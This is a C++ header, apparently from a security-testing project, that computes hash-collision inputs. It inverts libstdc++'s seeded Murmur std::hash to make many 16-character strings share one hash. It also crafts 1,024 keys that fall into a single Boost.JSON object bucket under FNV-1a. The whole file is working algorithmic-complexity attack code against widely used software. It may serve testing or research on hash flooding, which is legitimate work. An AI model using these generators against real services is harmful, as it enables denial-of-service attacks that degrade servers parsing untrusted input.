// collisions.hpp — Texts computed to fall into one bucket of hash tables whose hash has no secret.
#pragma once

#include <algorithm>
#include <cstdint>
#include <cstring>
#include <string>
#include <string_view>
#include <vector>

namespace chorus::attacks {

inline constexpr std::string_view letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-_";

// The `number`-th text of `length` letters.
inline std::string spelled(std::uint64_t number, std::size_t length)
{
    std::string text(length, '0');
    for (char& each : text) {
        each = letters[number % letters.size()];
        number /= letters.size();
    }
    return text;
}

// --- libstdc++: std::hash<std::string> is Murmur under a published seed, and each of its steps can be undone ---------

namespace murmur {

inline constexpr std::uint64_t factor = 0xc6a4a7935bd1e995, seed = 0xc70f6907;

constexpr std::uint64_t inverse(std::uint64_t odd)
{
    std::uint64_t x = odd; // right in three bits; each turn doubles them
    for (int turn = 0; turn < 5; ++turn)
        x *= 2 - odd * x;
    return x;
}

constexpr std::uint64_t mixed(std::uint64_t value) { return value ^ value >> 47; } // its own inverse
constexpr std::uint64_t block(std::uint64_t bytes) { return mixed(bytes * factor) * factor; }
constexpr std::uint64_t unblock(std::uint64_t value) { return mixed(value * inverse(factor)) * inverse(factor); }

static_assert(unblock(block(0x0123456789abcdef)) == 0x0123456789abcdef);

} // namespace murmur

inline bool is_plain(char each) { return each > ' ' && each < 0x7f && each != '"' && each != '\\'; }

// Texts of 16 printable characters that all have the same std::hash: the first half is tried out, the second follows.
inline std::vector<std::string> names_that_collide(std::size_t count)
{
    constexpr std::uint64_t common = 0x12345678; // what the hash shall be before its last steps
    std::vector<std::string> names;
    for (std::uint64_t number = 0; names.size() < count; ++number) {
        std::string name = spelled(number, 8) + std::string(8, ' ');
        std::uint64_t first = 0;
        std::memcpy(&first, name.data(), 8);
        const std::uint64_t before = murmur::seed ^ 16 * murmur::factor;
        const std::uint64_t second = murmur::unblock((before ^ murmur::block(first)) * murmur::factor ^ common);
        std::memcpy(name.data() + 8, &second, 8);
        if (std::ranges::all_of(name, is_plain)) names.push_back(std::move(name));
    }
    return names;
}

// --- Boost.JSON: FNV-1a, begun with the address of the object's table ------------------------------------------------

// 1,024 keys that share one of an object's 1,024 buckets, if its address ends in these ten bits: no others count.
inline std::vector<std::string> keys_that_collide(std::uint32_t address)
{
    constexpr std::uint64_t basis = 0xcbf29ce484222325, prime = 0x100000001b3;
    std::vector<std::string> keys;
    for (std::uint64_t number = 0; keys.size() < 1024; ++number) {
        std::string key = spelled(number, 4);
        std::uint64_t hash = basis + address;
        for (const char each : key)
            hash = (static_cast<unsigned char>(each) ^ hash) * prime;
        const std::uint64_t last = hash % 1024; // this character makes all ten bits zero
        if (last >= 0x80 || letters.find(static_cast<char>(last)) == std::string_view::npos) continue;
        keys.push_back(key + static_cast<char>(last));
    }
    return keys;
}

} // namespace chorus::attacks
